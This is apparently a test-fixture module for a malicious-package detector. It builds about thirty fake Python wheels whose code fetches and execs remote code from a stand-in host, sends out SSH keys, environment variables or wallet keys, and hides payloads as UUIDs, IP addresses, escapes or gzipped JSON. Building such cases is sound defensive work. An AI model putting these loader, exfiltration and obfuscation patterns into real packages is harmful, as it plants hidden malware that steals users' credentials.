"""Python: code that Python itself calls, decoders under the names of other things, and what waits to be called."""

import gzip
import ipaddress
import json
import uuid

from tests.evasions.case import HOST, PY_PAYLOAD, Case, b64

_BYTES = PY_PAYLOAD.encode()
_UUIDS = [str(uuid.UUID(bytes=(_BYTES + b"\n" * 16)[i : i + 16])) for i in range(0, len(_BYTES), 16)]
_ADDRESSES = [str(ipaddress.IPv4Address((_BYTES + b"\n" * 4)[i : i + 4])) for i in range(0, len(_BYTES), 4)]
_SPREAD = "".join(f"{letter}\u00a7" for letter in PY_PAYLOAD)
_ESCAPED = "".join(f"\\x{byte:02x}" for byte in _BYTES)
_RUNS = f"exec(__import__('requests').get('{HOST}/p').text)"


def _imported(id_: str, code: str, **more: bytes | str) -> Case:
    """The code runs, or waits, in the package; other files by their names, two underscores for a dot."""
    files = {f"parcel/{name.replace('__', '.')}": data for name, data in more.items()}
    return Case(id_, "wheel", {"parcel/__init__.py": code, **files})


CASES: tuple[Case, ...] = (
    _imported("metaclass", f"class M(type):\n    def __init__(cls, n, b, d):\n        {_RUNS}\nclass A(metaclass=M): pass\n"),
    _imported("subclass-made", f"class B:\n    def __init_subclass__(cls):\n        {_RUNS}\nclass C(B): pass\n"),
    _imported("member-named", f"class D:\n    def __set_name__(self, o, n):\n        {_RUNS}\nclass C:\n    x = D()\n"),
    _imported("object-called", f"class C:\n    def __call__(self):\n        {_RUNS}\nC()()\n"),
    _imported("object-deleted", f"class C:\n    def __del__(self):\n        {_RUNS}\nc = C()\ndel c\n"),
    _imported("called-out-of-globals", f"def a():\n    {_RUNS}\nglobals()['a']()\n"),
    _imported("called-by-getattr-of-a-module", "from . import util\ngetattr(util, 'boot')()\n", util__py=f"def boot():\n    {_RUNS}\n"),
    _imported("thread-of-another-file", "from .t import T\nT().start()\n", t__py=f"import os, requests, threading\nclass T(threading.Thread):\n    def run(self):\n        requests.post('{HOST}/t', json=dict(os.environ))\n"),
    _imported(
        "finder-put-in",
        "import sys, importlib.abc, importlib.util\nclass F(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
        "    def find_spec(self, n, p, t=None):\n        return importlib.util.spec_from_loader(n, self) if n.startswith('parcel_') else None\n"
        f"    def exec_module(self, m):\n        import urllib.request\n        exec(urllib.request.urlopen('{HOST}/' + m.__name__).read(), m.__dict__)\nsys.meta_path.insert(0, F())\n",
    ),
    _imported("replaced-letters", f"c = {_SPREAD!r}\nexec(c.replace('\u00a7', ''))\n"),
    _imported("escapes", f'exec("{_ESCAPED}")\n'),
    _imported("one-number", f"n = {int.from_bytes(_BYTES, 'big')}\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'big'))\n"),
    _imported("tree-of-numbers", f"import ast\nt = ast.parse(bytes({list(_BYTES)}).decode())\nexec(compile(t, 'x', 'exec'))\n"),
    _imported("identifiers", f"import uuid\nL = {_UUIDS!r}\nexec(b''.join(uuid.UUID(u).bytes for u in L))\n"),
    _imported("addresses", f"import ipaddress\nL = {_ADDRESSES!r}\nexec(b''.join(ipaddress.ip_address(u).packed for u in L))\n"),
    _imported(
        "written-and-imported",
        f"import urllib.request, os, sys, tempfile\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'zz_mod.py'), 'wb').write(urllib.request.urlopen('{HOST}/m').read())\n"
        "sys.path.insert(0, d)\nimport zz_mod\n",
    ),
    _imported(
        "written-by-its-number",
        f"import tempfile, subprocess, sys, urllib.request, os\nf, p = tempfile.mkstemp(suffix='.py')\nos.write(f, urllib.request.urlopen('{HOST}/x').read())\nos.close(f)\n"
        "subprocess.Popen([sys.executable, p])\n",
    ),
    _imported("pickle-fetched", f"import pickle, urllib.request\npickle.loads(urllib.request.urlopen('{HOST}/a').read())\n"),
    _imported("timed", f"import timeit, requests\ntimeit.timeit(requests.get('{HOST}/a').text, number=1)\n"),
    _imported("pip-within", f"import pip\npip.main(['install', '{HOST}/p.tar.gz'])\n"),
    _imported("remote-object", f"import xmlrpc.client\np = xmlrpc.client.ServerProxy('{HOST}/x')\nexec(p.code())\n"),
    _imported("fetched-in-one-file-run-in-another", "from . import loader\nloader.boot()\n", loader__py="from .web import get\ndef boot():\n    exec(get())\n", web__py=f"import urllib.request\ndef get():\n    return urllib.request.urlopen('{HOST}/p').read().decode()\n"),
    _imported("keys-read-in-one-file-sent-in-another", "from .grab import collect\nfrom .net import push\npush(collect())\n", grab__py="import os, glob\ndef collect():\n    return {p: open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/id_*'))}\n", net__py=f"import requests\ndef push(d):\n    requests.post('{HOST}/d', json=d)\n"),
    _imported("dictionary-in-gzip", "import gzip, json, os, base64\nd = json.loads(gzip.open(os.path.join(os.path.dirname(__file__), 'eu.json.gz')).read())\ndef load():\n    exec(compile(base64.b64decode(d['w']).decode(), '', 'exec'))\nload()\n", eu__json__gz=gzip.compress(json.dumps({"w": b64(PY_PAYLOAD)}).encode())),
    # What waits to be called
    _imported("keys-sent-by-a-command", f"import os, requests, glob\ndef main():\n    for p in glob.glob(os.path.expanduser('~/.ssh/*')):\n        requests.post('{HOST}/k', files={{'f': open(p, 'rb')}})\n"),
    _imported("private-key-to-a-bare-address", "import requests\ndef create_wallet(private_key):\n    _sync(private_key)\ndef _sync(k):\n    requests.post('http://203.0.113.9:8080/s', json={'data': k})\n"),
    _imported("fetched-code-when-called", f"import requests\nclass Bot:\n    def run(self):\n        exec(requests.get('{HOST}/core.py').text, globals())\n"),
    _imported("fetched-code-when-a-name-is-asked-for", f"def __getattr__(name):\n    {_RUNS}\n"),
    _imported("program-of-anybody-when-called", "import os, requests, subprocess\ndef update():\n    r = requests.get('https://raw.githubusercontent.com/inert/inert/main/u.exe')\n    p = os.path.join(os.environ['TEMP'], 'u.exe')\n    with open(p, 'wb') as f:\n        f.write(r.content)\n    subprocess.Popen(p)\n"),
)  # fmt: skip
